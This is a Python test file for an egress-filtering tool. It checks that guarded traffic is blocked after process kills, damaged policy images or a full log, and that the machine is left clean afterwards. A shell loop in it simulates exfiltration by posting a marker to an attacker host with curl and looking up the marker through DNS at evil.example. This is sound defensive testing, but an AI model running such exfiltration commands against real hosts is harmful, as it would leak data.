"""Whatever goes wrong, guarded traffic is refused; and after any end the machine is as it was."""

import os
import pathlib
import random
import signal
import subprocess
import time

from rig import leftovers
from rig.cases import Case, expand, rows
from rig.guard import binary
from rig.internet import ATTACKER, RESOLVER

POLICY = f"{RESOLVER}:53/udp\nwww.allowed.example:80|443\n"

# Tries to get out for ever, by both protocols, and writes a line for each try.
LOOP = """
while :; do
    curl -sSk -m 1 -d MARKER https://ADDRESS/
    curl -sS -m 1 https://www.allowed.example/
    dig +time=1 +tries=1 MARKER.evil.example
    echo x >>TRIES
done >/dev/null 2>&1
"""


def ours(root):
    """Processes below `root`, itself included, that run egress-run: {pid: exe}."""
    parents, found = {}, {}
    for entry in pathlib.Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rpartition(")")[2].split()
                parents[int(entry.name)] = int(fields[1])
                if os.readlink(entry / "exe") == str(binary("egress-run")):
                    found[int(entry.name)] = True
            except OSError:
                continue

    def below(pid):
        while pid > 1 and pid != root:
            pid = parents.get(pid, 0)
        return pid == root
    return sorted(pid for pid in found if below(pid))


def wait_until(true, what, seconds=15):
    deadline = time.monotonic() + seconds
    while not true():
        if time.monotonic() > deadline:
            raise AssertionError(f"waited {seconds} s for: {what}")
        time.sleep(0.01)


def lines_of(path):
    return path.read_text().count("\n") if path.exists() else 0


@expand
class Killed(Case):
    """kill -9 of each of our processes while the command tries to get out."""

    @rows([(f"process {index}", index) for index in range(3)])
    def kill(self, _, index):
        before = leftovers.snapshot()
        marker = os.urandom(12).hex()
        tries = self.net.fresh_directory() / "tries"
        self.oracle.mark()
        loop = LOOP.replace("MARKER", marker).replace("ADDRESS", ATTACKER).replace("TRIES", str(tries))
        log = self.net.dir / f"killed-{index}.jsonl"
        main = self.machine.start_guarded(["sh", "-c", loop], self.machine.compile(POLICY), log)
        try:
            wait_until(lambda: lines_of(tries) >= 2 or main.poll() is not None, "the first tries")
            self.assertIsNone(main.poll(), "egress-run has ended")
            processes = ours(main.pid)
            if index >= len(processes):
                self.skipTest(f"egress-run is {len(processes)} processes")
            os.kill(processes[index], signal.SIGKILL)
            # Either the run ends, or the command goes on trying: some more tries then.
            seen = lines_of(tries)
            wait_until(lambda: lines_of(tries) >= seen + 4 or main.poll() is not None,
                       "tries after the kill", seconds=30)
            main.terminate()
            main.communicate(timeout=15)
        finally:
            if main.poll() is None:
                main.kill()
                main.communicate()
        self.oracle.fence()
        self.assertFalse(self.oracle.holds(marker.encode()))
        self.assertEqual(self.oracle.packets(), [])
        wait_until(lambda: not leftovers.differences(before, leftovers.snapshot()),
                   "the machine to be as before", seconds=5)

    def test_terminate_cleans_up(self):
        for how in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            with self.subTest(how=how):
                before = leftovers.snapshot()
                main = self.machine.start_guarded(
                    ["sleep", "60"], self.machine.compile(POLICY), self.net.dir / "ended.jsonl")
                wait_until(lambda: len(ours(main.pid)) > 1, "egress-run to start")
                main.send_signal(how)
                main.communicate(timeout=10)
                self.assertEqual(leftovers.differences(before, leftovers.snapshot()), [])


class Start(Case):
    """All or nothing."""

    def refused(self, *argv, **options):
        """A start that must not happen: one sentence, status 2, no trace, and no command."""
        before = leftovers.snapshot()
        touched = self.net.fresh_directory() / "touched"
        done = subprocess.run([str(word) for word in (*argv, "--", "touch", touched)],
                              stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=20,
                              check=False, **{"env": self.machine.environment, **options})
        self.assertEqual(done.returncode, 2, done)
        self.assertEqual(done.stdout, "", done)
        self.assertEqual(len(done.stderr.strip().splitlines()), 1, done.stderr)
        self.assertTrue(done.stderr.startswith("egress-run: "), done.stderr)
        self.assertFalse(touched.exists())
        self.assertEqual(leftovers.differences(before, leftovers.snapshot()), [])
        return done.stderr

    def test_damaged_images(self):
        good = self.machine.compile(POLICY).read_bytes()
        picks = random.Random(1)
        damaged = [b"", good[:7], good[:-1], good[:len(good) // 2], good + b"\0", os.urandom(500)]
        for _ in range(20):
            bit = picks.randrange(len(good) * 8)
            flipped = bytearray(good)
            flipped[bit // 8] ^= 1 << bit % 8
            damaged.append(bytes(flipped))
        for number, content in enumerate(damaged):
            with self.subTest(number=number):
                image = self.net.dir / "damaged.egb"
                image.write_bytes(content)
                self.refused(binary("egress-run"), "--bytecode", image,
                             "--log", self.net.dir / "damaged.jsonl")

    def test_no_image(self):
        words = self.refused(binary("egress-run"), "--bytecode", self.net.dir / "none.egb",
                             "--log", self.net.dir / "none.jsonl")
        self.assertIn("none.egb", words)

    def test_log_that_cannot_be_written(self):
        words = self.refused(binary("egress-run"), "--bytecode", self.machine.compile(POLICY),
                             "--log", "/nowhere/log.jsonl")
        self.assertIn("/nowhere/log.jsonl", words)

    def test_no_privilege(self):
        words = self.refused("setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups",
                             binary("egress-run"), "--bytecode", self.machine.compile(POLICY),
                             "--log", "/dev/null")
        self.assertIn("root", words)

    def test_no_iptables(self):
        words = self.refused(binary("egress-run"), "--bytecode", self.machine.compile(POLICY),
                             "--log", "/dev/null", env={**self.machine.environment,
                                                        "PATH": str(self.net.home)})
        self.assertIn("iptables", words)


class Enforcing(Case):
    def test_full_log_means_refusal(self):
        """What cannot be written down is not allowed."""
        full = self.net.dir / "full"
        full.mkdir()
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4k", "tmpfs", full], check=True)
        try:
            main = self.machine.start_guarded(
                ["sh", "-c", "for i in $(seq 30); do curl -sS -m 2 https://www.allowed.example/;"
                 " done; ! curl -sS -m 2 https://www.allowed.example/"],
                self.machine.compile(POLICY), full / "log.jsonl")
            _, err = main.communicate(timeout=30)
            self.assertEqual(main.returncode, 0, f"the last fetch was let through: {err}")
        finally:
            subprocess.run(["umount", "-l", full], check=True)
